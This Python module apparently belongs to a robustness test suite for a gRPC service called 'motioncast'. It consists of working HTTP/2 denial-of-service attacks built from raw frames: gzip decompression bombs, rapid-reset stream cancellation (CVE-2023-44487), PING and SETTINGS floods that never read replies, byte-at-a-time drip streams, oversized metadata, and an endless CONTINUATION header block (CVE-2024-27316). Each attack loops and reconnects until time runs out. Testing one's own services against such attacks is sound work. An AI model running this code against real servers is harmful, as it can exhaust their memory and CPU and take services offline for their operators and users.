"""Attacks that no gRPC client could make: hand-written HTTP/2 (attacks.py runs them).

Each opens its own connections until time is up, and returns the number of bytes sent.
"""

from __future__ import annotations

import gzip
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

from support import raw_http2
from support.raw_http2 import DATA, RawHttp2, call_headers, field, frame, message

STREAM: Final = "/motioncast.v1.MotionTransferService/Stream"
INFO: Final = "/motioncast.v1.MotionTransferService/GetServerInfo"
CHECK: Final = "/grpc.health.v1.Health/Check"
CANCEL: Final = b"\0\0\0\x08"
ONE_FRAME: Final = 16_000  # bytes of header block in one frame


def _until(target: str, end: float, step: Callable[[RawHttp2], None], *, reads: bool = True) -> int:
    """Repeats a step until time is up, reconnecting whenever the server hangs up."""
    sent = 0
    while time.monotonic() < end:
        with RawHttp2(target, reads=reads) as client:
            with suppress(OSError):
                while time.monotonic() < end and not client.ended.is_set():
                    if client.would_wait():
                        time.sleep(0.01)
                        continue
                    step(client)
            sent += client.sent
    return sent


def inflated(target: str, end: float) -> int:
    """Sends messages of 7 MiB of zeros, compressed to a few kilobytes with gzip."""
    small = gzip.compress(bytes(7 * 2**20))
    body = b"\1" + message(len(small))[1:] + small

    def step(client: RawHttp2) -> None:
        stream = client.call(STREAM, (b"grpc-encoding", b"gzip"))
        client.send(frame(DATA, raw_http2.END_STREAM, stream, body))

    return _until(target, end, step)


def cancelled(target: str, end: float) -> int:
    """Makes calls and cancels each in the same write (CVE-2023-44487)."""

    def step(client: RawHttp2) -> None:
        reset = frame(raw_http2.RST_STREAM, 0, client.next_stream, CANCEL)
        client.call(STREAM, then=reset)

    return _until(target, end, step)


def cancelled_later(target: str, end: float) -> int:
    """Makes a hundred calls at a time and cancels them once they have begun."""

    def step(client: RawHttp2) -> None:
        streams = [client.call(STREAM) for _ in range(100)]
        time.sleep(0.02)
        for stream in streams:
            client.send(frame(raw_http2.RST_STREAM, 0, stream, CANCEL))

    return _until(target, end, step)


def questions(target: str, end: float) -> int:
    """Sends as many health checks as the connection takes."""

    def step(client: RawHttp2) -> None:
        asked = frame(DATA, raw_http2.END_STREAM, client.next_stream, message(0))
        client.call(CHECK, then=asked)

    return _until(target, end, step)


def drops(target: str, end: float) -> int:
    """Sends a hundred messages byte by byte, each byte in its own frame."""
    streams: dict[RawHttp2, Iterator[int]] = {}

    def dripping(client: RawHttp2) -> Iterator[int]:
        opened = [client.call(path) for path in (STREAM, INFO) for _ in range(50)]
        for stream in opened:
            client.send(frame(DATA, 0, stream, message(1000)))
        while True:
            yield from opened

    def step(client: RawHttp2) -> None:
        stream = next(streams.setdefault(client, dripping(client)))
        client.send(frame(DATA, 0, stream, b"\0"))

    return _until(target, end, step)


def pings(target: str, end: float) -> int:
    """Sends PINGs and never reads the answers."""
    flood = frame(raw_http2.PING, 0, 0, bytes(8)) * 100
    return _until(target, end, lambda client: client.send(flood), reads=False)


def settings(target: str, end: float) -> int:
    """Sends SETTINGS and never reads the answers."""
    flood = frame(raw_http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 100
    return _until(target, end, lambda client: client.send(flood), reads=False)


def metadata(target: str, end: float) -> int:
    """Makes calls with a frame full of metadata."""
    fields = [(b"x%d" % number, b"a" * 1000) for number in range(15)]

    def step(client: RawHttp2) -> None:
        client.call(CHECK, *fields)

    return _until(target, end, step)


def endless_metadata(target: str, end: float) -> int:
    """Sends a header block without end (CVE-2024-27316 and similar)."""
    more = frame(raw_http2.CONTINUATION, 0, 1, field(b"x", b"a" * 1000) * (ONE_FRAME // 1000))

    def step(client: RawHttp2) -> None:
        if client.next_stream == 1:
            client.open_headers(call_headers(CHECK))
        client.send(more)

    return _until(target, end, step)


RAW: Final = {
    one.__name__: one
    for one in (
        inflated,
        cancelled,
        cancelled_later,
        questions,
        drops,
        pings,
        settings,
        metadata,
        endless_metadata,
    )
}
